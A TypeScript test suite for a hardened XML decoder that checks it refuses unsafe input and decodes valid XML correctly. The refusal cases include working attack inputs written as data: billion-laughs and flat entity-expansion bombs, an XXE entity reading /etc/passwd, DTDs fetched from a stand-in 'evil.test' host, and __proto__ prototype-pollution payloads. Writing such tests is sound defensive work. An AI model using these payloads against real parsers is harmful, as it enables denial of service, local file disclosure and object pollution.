import { decodeXml, XML_DEPTH_CEILING } from './xml-decode';
import { isTranslationError, type TranslationFailure } from './translation.errors';

function failureOf(run: () => unknown): TranslationFailure | 'none' | 'other' {
  try {
    run();
    return 'none';
  } catch (error) {
    return isTranslationError(error) ? error.failure : 'other';
  }
}

function nested(depth: number, leaf = 'x'): string {
  return '<a>'.repeat(depth) + leaf + '</a>'.repeat(depth);
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;
// CVE-2026-26278: one plain entity referenced many times, 1.3 KB of XML.
const FLAT_EXPANSION = `<!DOCTYPE r [<!ENTITY a "${'A'.repeat(1000)}">]><r>${'&a;'.repeat(100)}</r>`;

describe('decodeXml refuses', () => {
  it.each<[string, TranslationFailure, string, { maxDepth?: number; maxBytes?: number }?]>([
    ['billion laughs (nested entities)', 'doctype', BILLION_LAUGHS],
    ['flat entity expansion', 'doctype', FLAT_EXPANSION],
    ['an external entity', 'doctype', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['a parameter entity', 'doctype', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><r/>'],
    ['a DOCTYPE without entities', 'doctype', '<!DOCTYPE r><r>x</r>'],
    ['a DOCTYPE with an external subset', 'doctype', '<!DOCTYPE r SYSTEM "http://evil.test/r.dtd"><r/>'],
    ['a lower-case doctype', 'doctype', '<!doctype r><r/>'],
    ['a DOCTYPE inside the root', 'doctype', '<r><!DOCTYPE x [<!ENTITY e "e">]><a>&e;</a></r>'],
    ['a DOCTYPE after a comment', 'doctype', '<!-- hi --><!DOCTYPE r><r/>'],
    ['a bare ENTITY declaration', 'doctype', '<r><!ENTITY e "e"></r>'],
    ['a conditional section', 'doctype', '<r><![INCLUDE[<a/>]]></r>'],
    ['a closing tag that does not match', 'malformed', '<r><a>x</r>'],
    ['garbage text', 'malformed', 'this is not xml'],
    ['two roots', 'malformed', '<a>1</a><b>2</b>'],
    ['the empty string', 'malformed', ''],
    ['whitespace only', 'malformed', '  \n '],
    ['a declaration without a root', 'malformed', '<?xml version="1.0"?>'],
    ['an unclosed root', 'malformed', '<r><a>x</a>'],
    ['text after the root', 'malformed', '<r>x</r>trailing'],
    ['an unterminated comment', 'malformed', '<r><!-- x</r>'],
    ['a bare ampersand', 'malformed', '<r>a & b</r>'],
    ['an HTML entity (no DTD declares it)', 'malformed', '<r>&nbsp;</r>'],
    ['a reference to NUL', 'malformed', '<r>&#0;</r>'],
    ['a reference to a surrogate', 'malformed', '<r>&#xD800;</r>'],
    ['a reference beyond Unicode', 'malformed', '<r>&#x110000;</r>'],
    ['an invalid element name', 'malformed', '<1r>x</1r>'],
    ['200 levels with maxDepth 64', 'too-deep', nested(200), { maxDepth: 64 }],
    ['65 levels by default', 'too-deep', nested(65)],
    ['5000 levels with a maxDepth above the ceiling', 'too-deep', nested(5000), { maxDepth: 1_000_000 }],
    ['a __proto__ element', 'unsafe-name', '<r><__proto__><polluted>1</polluted></__proto__></r>'],
    ['a __proto__ root', 'unsafe-name', '<__proto__><polluted>1</polluted></__proto__>'],
    ['a self-closing __proto__', 'unsafe-name', '<r><__proto__/></r>'],
    ['a constructor element', 'unsafe-name', '<r><constructor><prototype><polluted>1</polluted></prototype></constructor></r>'],
    ['a prototype element', 'unsafe-name', '<r><prototype>x</prototype></r>'],
    ['a body over maxBytes', 'too-large', `<r>${'x'.repeat(100)}</r>`, { maxBytes: 100 }],
    ['multi-byte text over maxBytes in UTF-8', 'too-large', `<r>${'ü'.repeat(50)}</r>`, { maxBytes: 100 }],
  ])('%s → %s', (_name, failure, xml, limits = {}) => {
    expect(failureOf(() => decodeXml(xml, limits))).toBe(failure);
  });

  it('refuses entity bombs without expanding them', () => {
    const started = performance.now();
    for (let i = 0; i < 100; i++) {
      expect(failureOf(() => decodeXml(BILLION_LAUGHS))).toBe('doctype');
      expect(failureOf(() => decodeXml(FLAT_EXPANSION))).toBe('doctype');
    }
    expect(performance.now() - started).toBeLessThan(200);
  });

  it('never pollutes Object.prototype', () => {
    for (const xml of ['<__proto__><polluted>1</polluted></__proto__>', '<r><__proto__><polluted>1</polluted></__proto__></r>',
      '<r><constructor><prototype><polluted>1</polluted></prototype></constructor></r>']) {
      failureOf(() => decodeXml(xml));
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('never echoes the input in its message, element and attribute names included', () => {
    for (const xml of ['<r><a>SECRET-9876</r>', 'SECRET-9876', '<r>&SECRET9876;</r>', '<!DOCTYPE SECRET9876><r/>', '<SECRET9876>',
      '<r></SECRET9876>', '<r><SECRET9876></r>', '<r SECRET9876="1" SECRET9876="2"/>', '<r><?SECRET9876 x?></r>x']) {
      try {
        decodeXml(xml);
        throw new Error('expected a TranslationError');
      } catch (error) {
        expect(isTranslationError(error)).toBe(true);
        expect((error as Error).message).not.toMatch(/SECRET/);
      }
    }
  });

  it('treats NaN and negative limits as a programming error', () => {
    expect(() => decodeXml('<r/>', { maxBytes: Number.NaN })).toThrow(RangeError);
    expect(() => decodeXml('<r/>', { maxDepth: -1 })).toThrow(RangeError);
  });
});

describe('decodeXml decodes', () => {
  it.each<[string, string, Record<string, unknown>]>([
    ['leading zeros (a bank account)', '<r><account>0012345678</account></r>', { r: { account: '0012345678' } }],
    ['a long digit string', '<r><id>12345678901234567890123</id></r>', { r: { id: '12345678901234567890123' } }],
    ['a hex-looking value', '<r><code>0x1F</code></r>', { r: { code: '0x1F' } }],
    ['e-notation', '<r><v>1e5</v></r>', { r: { v: '1e5' } }],
    ['a decimal', '<r><v>5234.50</v></r>', { r: { v: '5234.50' } }],
    ['booleans', '<r><v>true</v></r>', { r: { v: 'true' } }],
    ['surrounding whitespace (trimmed)', '<r><v>  12 </v></r>', { r: { v: '12' } }],
    ['predefined entities', '<r><v>&lt;b&gt; &amp; &quot;q&quot; &apos;s&apos;</v></r>', { r: { v: '<b> & "q" \'s\'' } }],
    ['no double decoding', '<r><v>&amp;lt;</v></r>', { r: { v: '&lt;' } }],
    ['decimal character references', '<r><v>M&#252;ller</v></r>', { r: { v: 'Müller' } }],
    ['hex character references', '<r><v>&#x41;&#x1F600;</v></r>', { r: { v: 'A😀' } }],
    ['CDATA kept verbatim', '<r><v><![CDATA[ <b>&amp; ]]></v></r>', { r: { v: ' <b>&amp; ' } }],
    ['a DOCTYPE inside CDATA as text', '<r><v><![CDATA[<!DOCTYPE html>]]></v></r>', { r: { v: '<!DOCTYPE html>' } }],
    ['a DOCTYPE inside a comment ignored', '<r><!-- <!DOCTYPE x> --><v>1</v></r>', { r: { v: '1' } }],
    ['an empty element', '<r><v></v><w/><x>  </x></r>', { r: { v: '', w: '', x: '' } }],
    ['an empty root', '<r/>', { r: '' }],
    ['repeated elements as an array', '<r><v>1</v><v>2</v></r>', { r: { v: ['1', '2'] } }],
    ['a single element as a value', '<r><v><a>1</a></v></r>', { r: { v: { a: '1' } } }],
    ['attributes dropped', '<r id="7"><v unit="EUR">1</v></r>', { r: { v: '1' } }],
    ['the declaration, PIs and comments dropped', '<?xml version="1.0"?><?pi x?><!-- c --><r><v>1</v></r>', { r: { v: '1' } }],
    ['mixed content on #text', '<r>a<b>1</b>c</r>', { r: { b: '1', '#text': 'ac' } }],
    ['namespace prefixes kept', '<p:r xmlns:p="urn:x"><p:v>1</p:v></p:r>', { 'p:r': { 'p:v': '1' } }],
    ['Object method names kept as data', '<r><toString>x</toString><valueOf>y</valueOf></r>', { r: { toString: 'x', valueOf: 'y' } }],
    ['a leading BOM', '\uFEFF<r>1</r>', { r: '1' }],
    ['64 levels by default', nested(64), expectNested(64)],
  ])('%s', (_name, xml, expected) => {
    expect(decodeXml(xml)).toEqual(expected);
  });

  it('decodes exactly maxBytes of UTF-8', () => {
    const xml = `<r>${'ü'.repeat(10)}</r>`; // 7 + 20 bytes
    expect(decodeXml(xml, { maxBytes: 27 })).toEqual({ r: 'ü'.repeat(10) });
    expect(failureOf(() => decodeXml(xml, { maxBytes: 26 }))).toBe('too-large');
  });

  it('accepts up to the depth ceiling when asked', () => {
    expect(failureOf(() => decodeXml(nested(XML_DEPTH_CEILING), { maxDepth: XML_DEPTH_CEILING }))).toBe('none');
  });

  it('returns plain objects', () => {
    const value = decodeXml('<r><v>1</v></r>');
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(Object.getPrototypeOf(value['r'])).toBe(Object.prototype);
  });
});

function expectNested(depth: number): Record<string, unknown> {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value as Record<string, unknown>;
}

describe('decodeXml options.arrays', () => {
  const one = '<salaries><salary><base>1</base></salary></salaries>';
  const two = '<salaries><salary><base>1</base></salary><salary><base>2</base></salary></salaries>';
  it.each<[string, string, readonly string[] | undefined, Record<string, unknown>]>([
    ['a single element without the option', one, undefined, { salaries: { salary: { base: '1' } } }],
    ['a single element listed by path', one, ['salaries.salary'], { salaries: { salary: [{ base: '1' }] } }],
    ['a single element listed by name', one, ['salary'], { salaries: { salary: [{ base: '1' }] } }],
    ['a leaf listed by name', one, ['base'], { salaries: { salary: { base: ['1'] } } }],
    ['repeated elements, listed or not', two, ['salaries.salary'], { salaries: { salary: [{ base: '1' }, { base: '2' }] } }],
    ['a path that does not match', one, ['other.salary'], { salaries: { salary: { base: '1' } } }],
    ['an empty list', one, [], { salaries: { salary: { base: '1' } } }],
    ['an absent listed element, by name (use asArray)', '<salaries/>', ['salary'], { salaries: '' }],
  ])('%s', (_name, xml, arrays, expected) => {
    expect(decodeXml(xml, { arrays })).toEqual(expected);
  });

  // An empty parent step of a path holds its listed arrays empty; nothing else changes.
  const list = ['r.list.item'];
  it.each<[string, string, readonly string[], Record<string, unknown>]>([
    ['an empty root parent', '<salaries/>', ['salaries.salary'], { salaries: { salary: [] } }],
    ['an empty parent, self-closing', '<r><list/></r>', list, { r: { list: { item: [] } } }],
    ['an empty parent, open and closed', '<r><list></list></r>', list, { r: { list: { item: [] } } }],
    ['a whitespace-only parent', '<r><list>\n  \t</list></r>', list, { r: { list: { item: [] } } }],
    ['a parent with only a comment', '<r><list> <!-- none --> </list></r>', list, { r: { list: { item: [] } } }],
    ['repeated empty parents', '<r><list/><list/></r>', list, { r: { list: [{ item: [] }, { item: [] }] } }],
    ['two arrays under one parent', '<r><list/></r>', ['r.list.item', 'r.list.extra'],
      { r: { list: { item: [], extra: [] } } }],
    ['a nested path, at its last parent', '<r><a><b/></a></r>', ['r.a.b.c'], { r: { a: { b: { c: [] } } } }],
    ['nested paths, at each listed level', '<r><a><b/></a></r>', ['r.a.b', 'r.a.b.c'],
      { r: { a: { b: [{ c: [] }] } } }],
    ['nested paths, an empty upper parent', '<r><a/></r>', ['r.a.b', 'r.a.b.c'], { r: { a: { b: [] } } }],
    // Unchanged:
    ['a parent with one child', '<r><list><item><v>1</v></item></list></r>', list,
      { r: { list: { item: [{ v: '1' }] } } }],
    ['an empty listed element', '<r><list><item/></list></r>', list, { r: { list: { item: [''] } } }],
    ['an empty element on no path', '<r><list/><other/></r>', list, { r: { list: { item: [] }, other: '' } }],
    ['a parent with text', '<r><list>none</list></r>', list, { r: { list: 'none' } }],
    ['a parent with other children only', '<r><list><n>0</n></list></r>', list, { r: { list: { n: '0' } } }],
    ['an empty step above the last parent', '<r><a/></r>', ['r.a.b.c'], { r: { a: '' } }],
    ['an empty parent listed by bare name only', '<r><list/></r>', ['item'], { r: { list: '' } }],
    ['an unsafe name in a path', '<r/>', ['r.__proto__', 'r.constructor'], { r: '' }],
  ])('%s', (_name, xml, arrays, expected) => {
    expect(decodeXml(xml, { arrays })).toEqual(expected);
  });

  it('gives each empty parent arrays of its own', () => {
    const first = decodeXml('<r><list/><list/></r>', { arrays: list }) as { r: { list: { item: unknown[] }[] } };
    first.r.list[0].item.push('x');
    expect(first.r.list[1].item).toEqual([]);
    expect(decodeXml('<r><list/></r>', { arrays: list })).toEqual({ r: { list: { item: [] } } });
    expect(Object.getPrototypeOf(first.r.list[1])).toBe(Object.prototype);
  });

  it('does not leak one call’s arrays into the next', () => {
    decodeXml(one, { arrays: ['salary'] });
    expect(decodeXml(one)).toEqual({ salaries: { salary: { base: '1' } } });
  });
});

// Pins where the saxes-based decoder is stricter than fast-xml-parser's validator was, and the edge cases it had to
// choose (see the comment at the top of xml-decode.ts).
describe('decodeXml strictness (well-formedness as saxes checks it)', () => {
  it.each<[string, TranslationFailure, string, { maxDepth?: number }?]>([
    ['a control character', 'malformed', '<r>a\u0001b</r>'],
    ['a vertical tab (not an XML character; trim() would have hidden it)', 'malformed', '<r>\u000B</r>'],
    ['a non-character', 'malformed', '<r>\uFFFE</r>'],
    ['a lone high surrogate', 'malformed', '<r>\uD800a</r>'],
    ['a lone high surrogate hiding a tag', 'malformed', '<r>\uD800</r></r>'],
    ['a lone low surrogate', 'malformed', '<r>\uDC00</r>'],
    ['two BOMs', 'malformed', '\uFEFF\uFEFF<r/>'],
    ['an XML declaration of an unknown version', 'malformed', '<?xml version="2.0"?><r/>'],
    ['an XML declaration without a version', 'malformed', '<?xml encoding="UTF-8"?><r/>'],
    ['an XML declaration after the root', 'malformed', '<r/><?xml version="1.0"?>'],
    ['an XML declaration inside the root', 'malformed', '<r><?xml version="1.0"?></r>'],
    ['an upper-case XML declaration', 'malformed', '<?XML version="1.0"?><r/>'],
    ['a processing instruction without a target', 'malformed', '<??><r/>'],
    ['XML 1.1 references to control characters', 'malformed', '<?xml version="1.1"?><r>&#1;</r>'],
    ['an undeclared entity in a (dropped) attribute', 'malformed', '<r a="&nbsp;">x</r>'],
    ['a < in a (dropped) attribute', 'malformed', '<r a="<">x</r>'],
    ['a duplicated (dropped) attribute', 'malformed', '<r a="1" a="2">x</r>'],
    [']]> in text', 'malformed', '<r>a]]>b</r>'],
    ['CDATA before the root', 'malformed', '<![CDATA[x]]><r/>'],
    ['CDATA after the root', 'malformed', '<r>x</r><![CDATA[x]]>'],
    ['-- inside a comment', 'malformed', '<r><!-- a -- b --></r>'],
    ['a comment ending in --->', 'malformed', '<r><!-- a ---></r>'],
    ['a closing tag with a different case', 'malformed', '<r>x</R>'],
    // Refused as soon as seen, before the parser reaches the malformed rest.
    ['too deep before the end of an unclosed document', 'too-deep', '<a>'.repeat(100), { maxDepth: 64 }],
    ['a __proto__ element before a malformed rest', 'unsafe-name', '<r><__proto__/></x>'],
    ['a self-closing element one level too deep', 'too-deep', nested(64, '<b/>')],
    ['the root with maxDepth 0', 'too-deep', '<r/>', { maxDepth: 0 }],
  ])('%s → %s', (_name, failure, xml, limits = {}) => {
    expect(failureOf(() => decodeXml(xml, limits))).toBe(failure);
  });

  it('reports where, as line and column only', () => {
    for (const [xml, line] of [
      ['<r>\n  <a>x</b>\n</r>', 2],
      ['<r>\r\n\r\n&nbsp;</r>', 3],
      ['<r>\n\uD800</r>', 2],
      ['<r>\n<a>', 2],
    ] as const) {
      try {
        decodeXml(xml);
        throw new Error('expected a TranslationError');
      } catch (error) {
        expect(isTranslationError(error) && error.failure).toBe('malformed');
        expect((error as Error).message).toMatch(new RegExp(`^malformed input: line ${line}, column \\d+$`));
      }
    }
  });

  it('decodes normally after any failure', () => {
    for (const bad of ['<r><a>', '<r><__proto__/><a>', nested(100), '<r>&nbsp;</r>', '<r>\uD800</r>', '<r/><x/>']) {
      failureOf(() => decodeXml(bad, { arrays: ['a'] }));
      expect(decodeXml('<r><a>1</a><b/></r>')).toEqual({ r: { a: '1', b: '' } });
    }
  });
});

describe('decodeXml text, names and arrays', () => {
  it.each<[string, string, Record<string, unknown>, (readonly string[])?]>([
    ['whitespace from character references trimmed too', '<r><v>&#32;x&#10;&#9;</v></r>', { r: { v: 'x' } }],
    ['a value made of whitespace references', '<r><v>&#32;&#xA0;</v></r>', { r: { v: '' } }],
    ['a comment inside text (dropped, the text around it kept)', '<r><v>a <!-- c --> b</v></r>', { r: { v: 'a  b' } }],
    ['a processing instruction inside text (each side trimmed)', '<r><v>a <?pi x?> b</v></r>', { r: { v: 'ab' } }],
    ['text around CDATA trimmed, CDATA not', '<r><v> x <![CDATA[ y ]]> z </v></r>', { r: { v: 'x y z' } }],
    ['an empty CDATA section', '<r><v><![CDATA[]]></v></r>', { r: { v: '' } }],
    ['CDATA beside child elements', '<r><a>1</a><![CDATA[ c ]]></r>', { r: { a: '1', '#text': ' c ' } }],
    ['line ends normalized', '<r><v>a\r\nb\rc</v><w><![CDATA[d\r\ne]]></w></r>', { r: { v: 'a\nb\nc', w: 'd\ne' } }],
    ['an astral character', '<r><v>😀</v></r>', { r: { v: '😀' } }],
    ['non-ASCII names', '<r><straße>1</straße></r>', { r: { straße: '1' } }],
    ['repeated Object method names', '<r><hasOwnProperty>1</hasOwnProperty><hasOwnProperty>2</hasOwnProperty><valueOf/></r>',
      { r: { hasOwnProperty: ['1', '2'], valueOf: '' } }],
    ['an Object method name as the root', '<toString>1</toString>', { toString: '1' }],
    ['an unbound prefix kept as written', '<r><q:b>2</q:b></r>', { r: { 'q:b': '2' } }],
    ['the root listed by name', '<r><a>1</a></r>', { r: [{ a: '1' }] }, ['r']],
    ['repeats after a single listed element', '<r><a>1</a><a>2</a><a><b>3</b></a></r>', { r: { a: ['1', '2', { b: '3' }] } }, ['a']],
    ['a path that stops short', '<r><a><b>1</b></a></r>', { r: { a: { b: '1' } } }, ['a.b']],
    ['a path from the root', '<r><a><b>1</b></a></r>', { r: { a: { b: ['1'] } } }, ['r.a.b']],
    ['a path naming each step, not a dotted element name', '<r><a.b>1</a.b></r>', { r: { 'a.b': '1' } }, ['r.a.b']],
  ])('%s', (_name, xml, expected, arrays = []) => {
    expect(decodeXml(xml, { arrays })).toEqual(expected);
  });

  it('puts #text after the child elements', () => {
    expect(Object.keys(decodeXml('<r>a<b>1</b>c<d/></r>')['r'] as object)).toEqual(['b', 'd', '#text']);
  });

  it('builds ordinary objects and arrays only', () => {
    const value = decodeXml('<r><toString><a>1</a></toString><v>1</v><v><w>2</w></v></r>');
    const r = value['r'] as Record<string, unknown>;
    expect(Object.getPrototypeOf(r['toString'])).toBe(Object.prototype);
    expect(Object.getPrototypeOf(r['v'])).toBe(Array.prototype);
    expect(Object.getPrototypeOf((r['v'] as unknown[])[1])).toBe(Object.prototype);
    expect(Object.keys(r)).toEqual(['toString', 'v']);
  });
});
